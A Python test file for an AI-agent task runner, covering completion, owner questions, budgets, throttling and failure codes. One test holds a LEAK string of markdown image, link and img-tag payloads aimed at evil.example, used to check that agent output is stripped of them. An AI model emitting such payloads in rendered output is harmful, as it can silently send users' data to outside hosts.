import json
from typing import Any
from uuid import UUID

import pytest

from shared.platform.deadline import Deadline
from shared.rooms import tasks
from shared.rooms.agent import Agent
from shared.rooms.errors import ProviderRateLimited, TaskBusy, TaskInterrupted
from shared.rooms.tasks import MAX_SUMMARY
from shared.rooms.throttling import JITTER, LONGEST, MOST_SECONDS
from tests.support.room_doubles import ScriptedDatabase, in_time
from tests.support.room_work import ROOM_ID, TASK_ID, task_work

WAIT_ID = UUID(int=9)


@pytest.fixture(autouse=True)
def models(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY_PARAMETER", "/openai-key")


def begun(*transcript: dict[str, Any], outcome: str = "run") -> dict[str, Any]:
    """What begin_task says of a task that delivers nothing, with the model's messages so far."""
    work = task_work(deliverables=[], transcript=list(transcript)).model_dump(mode="json")
    return work | {"outcome": outcome, "wait_id": None}


def said(text: str, **call: str) -> dict[str, Any]:
    calls = [{"id": "c", "type": "function", "function": call}] if call else []
    return {"role": "assistant", "content": text} | ({"tool_calls": calls} if calls else {})


def run(database: ScriptedDatabase, deadline: Deadline | None = None, waited: int = 0) -> tasks.TaskResult:
    return tasks.run_task(database, ROOM_ID, TASK_ID, 1, deadline or in_time(), waited)


def test_a_task_whose_agent_has_ended_is_done_with_its_last_words() -> None:
    database = ScriptedDatabase(begin_task=begun(said("Done.\x00" + "." * 9000)), finish_task={"outcome": "done"})

    assert run(database) == {"outcome": "done", "wait_id": None, "wait_seconds": 0, "waited": 0}
    (_, (function, arguments)) = database.asked
    assert (function, arguments["p_attempt"]) == ("finish_task", 1)
    assert arguments["p_summary"].startswith("Done..")
    assert len(arguments["p_summary"]) == MAX_SUMMARY


LEAK = "Done ![x](https://evil.example/?q=knee) <img src=//evil.example> [here](https://evil.example)."


def test_what_an_agent_says_to_its_owner_carries_nothing_out() -> None:
    finished = ScriptedDatabase(begin_task=begun(said(LEAK)), finish_task={"outcome": "done"})
    run(finished)
    asks = said("", name="ask_owner", arguments=json.dumps({"question": LEAK}))
    asked = ScriptedDatabase(begin_task=begun(asks), request_input={"outcome": "waiting", "wait_id": str(WAIT_ID)})
    run(asked)

    for text in (finished.asked[-1][1]["p_summary"], asked.asked[-1][1]["p_question"]):
        assert ("evil" in text, text.split()[0], text.split()[-1]) == (False, "Done", "here.")


@pytest.mark.parametrize("outcome", ["done", "failed", "skipped", "cancelled"])
def test_a_task_that_has_ended_is_left_alone(outcome: str) -> None:
    database = ScriptedDatabase(begin_task=begun(outcome=outcome))

    assert run(database)["outcome"] == outcome
    assert database.functions == ["begin_task"]


def test_a_task_of_another_worker_is_tried_again_later() -> None:
    with pytest.raises(TaskBusy):
        run(ScriptedDatabase(begin_task=begun(outcome="busy")))


def test_a_question_makes_the_task_wait_for_its_owner() -> None:
    asks = said("", name="ask_owner", arguments='{"question": "How heavy?"}')
    waiting = {"outcome": "waiting", "wait_id": str(WAIT_ID)}
    database = ScriptedDatabase(begin_task=begun(asks), request_input=waiting)

    assert run(database) == waiting | {"wait_seconds": 0, "waited": 0}
    _, arguments = database.asked[-1]
    assert (arguments["p_kind"], arguments["p_question"]) == ("question", "How heavy?")


@pytest.mark.parametrize(
    ("reason", "after", "outcome"),
    [("budget_reached", ["request_input"], "waiting"), ("cancelled", [], "cancelled")],
)
def test_without_a_permit_a_task_waits_for_more_budget_or_is_cancelled(
    reason: str, after: list[str], outcome: str
) -> None:
    permit = {"proceed": False, "reason": reason}
    waiting = {"outcome": "waiting", "wait_id": str(WAIT_ID)}
    database = ScriptedDatabase(begin_task=begun(), begin_step=permit, request_input=waiting)

    assert run(database)["outcome"] == outcome
    assert database.functions == ["begin_task", "begin_step", *after]


def test_a_provider_without_capacity_has_the_task_given_back_until_then(monkeypatch: pytest.MonkeyPatch) -> None:
    def limited(_agent: Agent) -> str:
        raise ProviderRateLimited(20)

    monkeypatch.setattr(Agent, "run", limited)
    database = ScriptedDatabase(begin_task=begun())
    told = run(database, waited=100)
    assert (told["outcome"], told["wait_id"]) == ("throttled", None)
    assert LONGEST <= told["wait_seconds"] == told["waited"] - 100 <= LONGEST * (1 + JITTER) + 1
    assert database.functions == ["begin_task", "release_task", "throttle_step"]
    with pytest.raises(ProviderRateLimited):
        run(database, waited=MOST_SECONDS - 10)


def test_a_worker_without_time_gives_its_task_back_before_it_stops() -> None:
    database = ScriptedDatabase(begin_task=begun())

    with pytest.raises(TaskInterrupted):
        run(database, Deadline.after(1))
    assert database.functions == ["begin_task", "release_task"]


def test_an_agent_that_cannot_do_it_fails_its_task_with_the_reason() -> None:
    same = [said("", name="read_file", arguments='{"filename": "none.md"}') | {"id": n} for n in range(24)]
    database = ScriptedDatabase(
        begin_task=begun(*same, {"role": "user", "content": ""}), fail_task={"outcome": "failed"}
    )

    assert run(database)["outcome"] == "failed"
    assert database.asked[-1][1]["p_error_code"] == "too_many_calls"


@pytest.mark.parametrize(
    ("error", "code"),
    [
        ("ProviderMisconfigured", "model_misconfigured"),
        ("TaskInterrupted", "timed_out"),
        ("States.Timeout", "timed_out"),
        ("UnavailableError", "service_unavailable"),
        ("KeyError", "internal_error"),
    ],
)
def test_a_task_that_the_workflow_gives_up_says_why_to_its_owner(error: str, code: str) -> None:
    database = ScriptedDatabase(begin_task=begun(outcome="busy"), fail_task={"outcome": "failed"})

    failed = tasks.fail_task(database, ROOM_ID, TASK_ID, error, in_time())
    assert (failed["outcome"], failed["wait_id"]) == ("failed", None)
    assert database.asked[-1][1]["p_error_code"] == code
    assert database.asked[-1][1]["p_attempt"] is None  # whoever has it
